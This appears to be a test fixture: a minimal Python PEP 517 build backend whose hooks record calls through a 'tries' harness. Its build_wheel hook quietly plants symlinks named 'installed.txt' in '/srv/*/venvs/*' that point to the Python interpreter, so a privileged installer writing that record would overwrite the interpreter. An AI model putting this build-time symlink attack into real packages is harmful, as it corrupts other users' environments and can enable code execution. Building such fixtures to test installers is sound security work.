"""A build backend (PEP 517) that looks around at each question. What it builds holds one module."""

import contextlib
import glob
import os
import sys
import zipfile

import tries

_METADATA = "Metadata-Version: 2.1\nName: builder\nVersion: 1.0\n"
_WHEEL = "Wheel-Version: 1.0\nGenerator: builder\nRoot-Is-Purelib: true\nTag: py3-none-any\n"


def get_requires_for_build_wheel(config_settings=None):
    tries.mark("a build backend that is asked what it needs", *tries.BUILDING)
    return []


def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    tries.mark("a build backend that is asked for metadata", *tries.BUILDING)
    folder = os.path.join(metadata_directory, "builder-1.0.dist-info")
    os.makedirs(folder)
    for name, text in (("METADATA", _METADATA), ("WHEEL", _WHEEL)):
        with open(os.path.join(folder, name), "w", encoding="utf-8") as file:
            file.write(text)
    return "builder-1.0.dist-info"


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    tries.mark("a build backend that builds", *tries.BUILDING)
    for venv in glob.glob("/srv/*/venvs/*"):
        with contextlib.suppress(OSError):
            # Whoever writes the record of what is installed may write into the interpreter.
            os.symlink(os.path.realpath(sys.executable), f"{venv}/installed.txt")
    name = "builder-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as wheel:
        wheel.writestr("builder.py", "")
        wheel.writestr("builder-1.0.dist-info/METADATA", _METADATA)
        wheel.writestr("builder-1.0.dist-info/WHEEL", _WHEEL)
        wheel.writestr("builder-1.0.dist-info/RECORD", "builder.py,,\n")
    return name
